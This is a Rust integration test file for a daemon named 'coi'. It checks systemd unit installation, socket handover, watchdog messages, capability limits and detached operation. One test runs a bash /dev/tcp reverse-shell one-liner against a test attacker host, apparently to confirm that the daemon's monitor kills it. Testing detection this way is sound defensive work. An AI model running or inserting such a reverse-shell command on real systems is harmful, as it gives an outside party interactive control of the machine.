//! The daemon as systemd runs it, without systemd: its units, its socket handed over, what it says of itself, and the
//! capabilities that it has there. And the daemon that goes on without either.

#![expect(clippy::unwrap_used, clippy::expect_used, reason = "what fails here is a test")]

use std::fs;
use std::os::fd::OwnedFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{UnixDatagram, UnixListener};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use coi_tests::{Attacker, Coi, DEADLINE, DEFAULT, Daemon, Running, end, incus, program};
use nix::sys::ptrace;
use nix::sys::signal::Signal;
use nix::unistd::Pid;
use tempfile::TempDir;

/// How often a sign of life is asked for, in microseconds.
const WATCHDOG: &str = "600000";

/// Another system's root, with the units in it, and the program where only root can write.
fn installed() -> (TempDir, PathBuf) {
    let root = tempfile::tempdir().unwrap();
    fs::set_permissions(root.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let program = root.path().join("coi");
    fs::copy(self::program(), &program).unwrap();
    let mut install = Command::new(&program);
    let ended = end(install.args(["daemon", "install", "--root"]).arg(root.path())).expect(0);
    let units = root.path().join("etc/systemd/system");
    let shown = |name: &str| format!("{}\n", units.join(name).display());
    assert_eq!(ended.text(), shown("coi.socket") + &shown("coi.service"));
    (root, units)
}

/// A setting of the unit.
fn setting(units: &Path, key: &str) -> String {
    let text = fs::read_to_string(units.join("coi.service")).unwrap();
    let line = text.lines().find_map(|line| line.strip_prefix(key)?.strip_prefix('='));
    line.unwrap_or_else(|| panic!("{key} is not set")).to_owned()
}

#[test]
fn systemd_understands_the_units() {
    let (root, units) = installed();
    let analyze = |arguments: &[&str]| {
        let mut command = Command::new("systemd-analyze");
        command.args(arguments).args([units.join("coi.socket"), units.join("coi.service")]);
        end(&mut command)
    };
    // What it warns of it says, and ends with 0.
    let ended = analyze(&["verify"]).expect(0);
    assert_eq!((ended.text().as_str(), ended.stderr.as_str()), ("", ""));
    let mut security = Command::new("systemd-analyze");
    security.args(["security", "--offline=true", "--no-pager", "--threshold=45"]);
    end(security.arg(units.join("coi.service"))).expect(0);
    assert!(setting(&units, "ExecStart").starts_with(root.path().to_str().unwrap()));

    let mut uninstall = Command::new(root.path().join("coi"));
    end(uninstall.args(["daemon", "uninstall", "--root"]).arg(root.path())).expect(0);
    assert_eq!(fs::read_dir(units).unwrap().count(), 0);
}

#[test]
fn a_dry_run_changes_nothing() {
    let root = tempfile::tempdir().unwrap();
    let mut install = Daemon::absent().command(&["daemon", "install", "--dry-run", "--root"]);
    let said = end(install.arg(root.path())).expect(0).text();
    assert!(
        said.contains("[Socket]") && said.contains("\nExecStart=") && said.contains(" daemon\n"),
        "{said}"
    );
    assert_eq!(fs::read_dir(root.path()).unwrap().count(), 0);
}

#[test]
fn without_systemd_there_is_another_way() {
    // In a mount namespace without what systemd has at /run.
    let mut install = Command::new("unshare");
    install.args(["--mount", "sh", "-c", "mount -t tmpfs none /run && exec \"$0\" daemon install --dry-run"]);
    end(install.arg(program())).expect(1).says("was not started by systemd").says("sudo coi daemon --detach");
}

#[test]
fn a_program_of_somebody_else_is_not_installed() {
    let (root, _) = installed();
    let program = root.path().join("coi");
    fs::set_permissions(&program, fs::Permissions::from_mode(0o777)).unwrap();
    let mut install = Command::new(&program);
    let ended = end(install.args(["daemon", "install", "--root"]).arg(root.path())).expect(1);
    ended.says("can be changed by others than root").says("sudo install -m 755");
}

/// A daemon that is started as systemd does it: with a socket, and somebody who listens.
struct Service {
    daemon: Option<Running>,
    heard: UnixDatagram,
    place: Daemon,
}

impl Service {
    fn start() -> Self {
        let place = Daemon::absent();
        let listener = UnixListener::bind(place.socket()).unwrap();
        let notify = place.socket().with_extension("notify");
        let heard = UnixDatagram::bind(&notify).unwrap();
        heard.set_read_timeout(Some(DEADLINE)).unwrap();
        // The socket is to be descriptor 3 of the process that LISTEN_PID names.
        let line = "exec 3<&0 </dev/null; LISTEN_FDS=1 LISTEN_PID=$$ WATCHDOG_PID=$$ exec \"$0\" daemon";
        let mut sh = Command::new("sh");
        sh.args(["-c", line]).arg(program());
        place.point(&mut sh);
        sh.env_remove("COI_SOCKET").env("NOTIFY_SOCKET", notify).env("WATCHDOG_USEC", WATCHDOG);
        let daemon = Running::start(sh.stdin(Stdio::from(OwnedFd::from(listener))));
        Self { daemon: Some(daemon), heard, place }
    }

    /// The next that it says.
    #[track_caller]
    fn hear(&self) -> String {
        let mut buffer = [0; 4096];
        let length = self.heard.recv(&mut buffer).expect("it says nothing");
        String::from_utf8_lossy(&buffer[..length]).trim_end().to_owned()
    }

    fn pid(&self) -> Pid {
        self.daemon.as_ref().unwrap().pid()
    }

    /// The thread that judges events.
    fn monitor(&self) -> Pid {
        let tasks = fs::read_dir(format!("/proc/{}/task", self.pid())).unwrap();
        let is_it =
            |task: &PathBuf| fs::read_to_string(task.join("comm")).is_ok_and(|name| name == "coi-monitor\n");
        let task = tasks.map(|task| task.unwrap().path()).find(is_it).unwrap();
        Pid::from_raw(task.file_name().unwrap().to_str().unwrap().parse().unwrap())
    }

    fn end(mut self) {
        let daemon = self.daemon.take().unwrap();
        daemon.signal(Signal::SIGTERM);
        while self.hear() != "STOPPING=1" {}
        // From here on nobody listens, which keeps it from nothing.
        daemon.finish().expect(0);
        assert!(self.place.socket().exists(), "the socket is systemd's, and is gone");
    }
}

impl Drop for Service {
    fn drop(&mut self) {
        if let Some(daemon) = self.daemon.take() {
            daemon.signal(Signal::SIGKILL);
        }
    }
}

#[test]
fn it_serves_systemds_socket_and_shows_that_its_monitor_lives() {
    let service = Service::start();
    assert_eq!(service.hear(), "READY=1");
    let (status, answer) = incus::call(service.place.socket(), "GET", "/v1/status");
    assert_eq!((status, answer["pid"].as_i64()), (200, Some(service.pid().as_raw().into())));
    for _ in 0..3 {
        assert_eq!(service.hear(), "WATCHDOG=1");
    }

    // The thread that judges stands still, and all others go on.
    let monitor = service.monitor();
    ptrace::seize(monitor, ptrace::Options::empty()).unwrap();
    ptrace::interrupt(monitor).unwrap();
    nix::sys::wait::waitpid(monitor, Some(nix::sys::wait::WaitPidFlag::__WALL)).unwrap();
    assert_eq!(incus::call(service.place.socket(), "GET", "/v1/status").0, 200);
    // One may have been on its way.
    service.heard.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    let mut buffer = [0; 64];
    let heard = std::iter::from_fn(|| service.heard.recv(&mut buffer).ok());
    assert!(heard.count() <= 1, "it shows life, and its monitor stands still");

    ptrace::detach(monitor, None).unwrap();
    service.heard.set_read_timeout(Some(DEADLINE)).unwrap();
    assert_eq!(service.hear(), "WATCHDOG=1");
    service.end();
}

#[test]
fn its_capabilities_are_enough() {
    let (_root, units) = installed();
    let capabilities = setting(&units, "CapabilityBoundingSet").to_lowercase();
    let capabilities: Vec<_> =
        capabilities.split(' ').map(|name| format!("+{}", name.strip_prefix("cap_").unwrap())).collect();
    let setpriv =
        format!("setpriv --no-new-privs --inh-caps=-all --bounding-set=-all,{}", capabilities.join(","));
    let coi = Coi::with_daemon_by(&setpriv);
    let attacker = Attacker::on_bridge();
    let ended = coi.run(DEFAULT, &["bash", "-c", &attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1")]);
    coi.assert_killed(ended, "reverse-shell-socket");
}

#[test]
fn it_goes_on_without_its_starter() {
    let coi = Coi::without_daemon();
    let ended = coi.coi(&["daemon", "--detach", "--idle-exit", "10m"]).expect(0);
    let pid = coi.daemon().pid().unwrap();
    let ended = ended.says(&format!("coi: the daemon answers on {}", coi.daemon().socket().display()));
    ended.says(&format!("process {pid}, its log is {}", coi.daemon().logs().join("daemon.log").display()));
    // It is in a session of its own, and holds nothing of ours.
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let fields: Vec<_> = stat.rsplit(')').next().unwrap().split_whitespace().collect();
    assert_eq!((fields[3], fields[4]), (pid.to_string().as_str(), "0"), "session and terminal");
    let log = coi.daemon().logs().join("daemon.log");
    let leads = |fd: u32| fs::read_link(format!("/proc/{pid}/fd/{fd}")).unwrap();
    assert_eq!([leads(0), leads(1), leads(2)], ["/dev/null".into(), log.clone(), log]);
    coi.coi(&["daemon", "--detach"]).expect(4).says("a COI daemon runs already");

    let elsewhere = Coi::without_daemon();
    fs::write(elsewhere.workspace().join("wrong.toml"), "[audi]\n").unwrap();
    let ended = elsewhere.coi(&["daemon", "--detach", "--config", "wrong.toml"]).expect(6);
    ended.says("the COI daemon does not start").says("did you mean `audit`?");
}
